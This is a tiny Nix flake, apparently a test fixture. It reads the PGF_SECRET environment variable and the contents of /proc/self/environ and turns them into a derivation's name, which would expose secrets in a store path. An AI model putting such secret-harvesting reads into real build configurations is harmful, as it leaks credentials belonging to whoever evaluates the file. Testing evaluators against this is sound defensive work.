{
  outputs = { self }: {
    x = builtins.getEnv "PGF_SECRET" + (if builtins.pathExists "/proc/self/environ" then builtins.readFile "/proc/self/environ" else "");
    packages.x86_64-linux.p = derivation { name = self.x; system = "x86_64-linux"; builder = "/bin/sh"; };
  };
}
